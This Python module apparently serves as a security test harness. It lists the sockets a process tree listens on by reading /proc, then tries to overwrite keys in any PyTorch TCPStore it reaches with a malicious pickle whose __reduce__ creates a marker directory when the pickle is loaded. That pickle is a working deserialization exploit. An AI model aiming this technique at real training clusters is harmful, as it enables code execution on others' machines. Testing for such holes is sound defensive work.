"""Which sockets a process and its descendants listen at, as the kernel's tables tell."""

import base64
import contextlib
import datetime
import ipaddress
import os
import pickle
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from torch.distributed import TCPStore

PATIENCE = 10.0
PROTOCOLS = {"tcp": "0A", "tcp6": "0A", "udp": "07", "udp6": "07"}  # listening, unconnected


@dataclass(frozen=True)
class Listening:
    """One socket."""

    pid: int
    command: str
    protocol: str
    address: str
    port: int

    @property
    def is_loopback(self) -> bool:
        found = ipaddress.ip_address(self.address)
        mapped = getattr(found, "ipv4_mapped", None)
        return (mapped or found).is_loopback


def descendants(root: int) -> set[int]:
    """The process and all that it and its children have started."""
    parents: dict[int, int] = {}
    for stat in Path("/proc").glob("[0-9]*/stat"):
        with contextlib.suppress(OSError):
            parents[int(stat.parent.name)] = int(stat.read_text().rpartition(")")[2].split()[1])
    found = {root}
    while more := {pid for pid, parent in parents.items() if parent in found} - found:
        found |= more
    return found


def listening(root: int) -> set[Listening]:
    """What they listen at over TCP, and every UDP socket that anybody may send to."""
    found: set[Listening] = set()
    tables: dict[str, list[tuple[str, tuple[str, str, int]]]] = {}
    for pid in descendants(root):
        with contextlib.suppress(OSError):
            inodes = set()
            for handle in Path(f"/proc/{pid}/fd").iterdir():
                with contextlib.suppress(OSError):
                    inodes.add(str(handle.readlink()))
            command = Path(f"/proc/{pid}/cmdline").read_text().replace("\0", " ")
            network = str(Path(f"/proc/{pid}/ns/net").readlink())
            if network not in tables:
                tables[network] = _table(pid)
            found |= {
                Listening(pid, command, *at) for name, at in tables[network] if name in inodes
            }
    return found


def _table(pid: int) -> list[tuple[str, tuple[str, str, int]]]:
    """Names, protocols, addresses and ports of all such sockets of its network."""
    rows: list[tuple[str, tuple[str, str, int]]] = []
    for protocol, wanted in PROTOCOLS.items():
        for line in Path(f"/proc/{pid}/net/{protocol}").read_text().splitlines()[1:]:
            words = line.split()
            if words[3] == wanted:
                host, _, port = words[1].partition(":")
                rows.append((f"socket:[{words[9]}]", (protocol, _host(host), int(port, 16))))
    return rows


def _host(words: str) -> str:
    """The kernel writes addresses as numbers of four bytes in the machine's own order."""
    raw = bytes.fromhex(words)
    four = b"".join(raw[at : at + 4][::-1] for at in range(0, len(raw), 4))
    return str(ipaddress.ip_address(four))


class Payload:
    """A pickle that leaves a file where somebody reads it."""

    def __init__(self, file: Path) -> None:
        self.file = file

    def __reduce__(self):
        return os.mkdir, (str(self.file),)


def attack(port: int, file: Path) -> bool:
    """Overwrite every key of a store that listens there with a pickle; whether there was one."""
    pickled = pickle.dumps(Payload(file))
    try:
        seconds = datetime.timedelta(seconds=3)
        store = TCPStore("127.0.0.1", port, timeout=seconds, wait_for_workers=False)
        for key in [key for key in store.list_keys() if not key.startswith("init/")]:
            # As torch's rendezvous keeps its state, and as object collectives would.
            values: list[Any] = [base64.b64encode(pickled), pickled]  # the stubs know no bytes
            for value in values:
                store.set(key.removeprefix("/"), value)
                time.sleep(0.3)
    except (RuntimeError, ValueError):
        return False
    return True


@dataclass
class Observer:
    """Lists the sockets of a process again and again in a thread, and attacks each with `file`."""

    root: int
    file: Path
    seen: set[Listening] = field(default_factory=set)
    commands: set[str] = field(default_factory=set)
    stores: list[int] = field(default_factory=list)
    """Ports at which a store let itself be written to."""
    is_over: threading.Event = field(default_factory=threading.Event)

    def __enter__(self) -> "Observer":
        self._thread = threading.Thread(target=self._look, daemon=True)
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self.is_over.set()
        self._thread.join()

    @property
    def reachable_by_others(self) -> set[Listening]:
        return {one for one in self.seen if not one.is_loopback}

    def _look(self) -> None:
        attackers: dict[int, threading.Thread] = {}
        while not self.is_over.wait(0.1):
            for pid in descendants(self.root):
                with contextlib.suppress(OSError):
                    self.commands.add(Path(f"/proc/{pid}/cmdline").read_text())
            found = listening(self.root)
            self.seen |= found
            for port in {one.port for one in found if one.protocol.startswith("tcp")}:
                if port not in attackers:
                    attackers[port] = threading.Thread(
                        target=self._attack, args=[port], daemon=True
                    )
                    attackers[port].start()
        deadline = time.monotonic() + PATIENCE
        for attacker in attackers.values():
            # One that is never answered waits until what it speaks to ends.
            attacker.join(max(0.0, deadline - time.monotonic()))

    def _attack(self, port: int) -> None:
        if attack(port, self.file):
            self.stores.append(port)
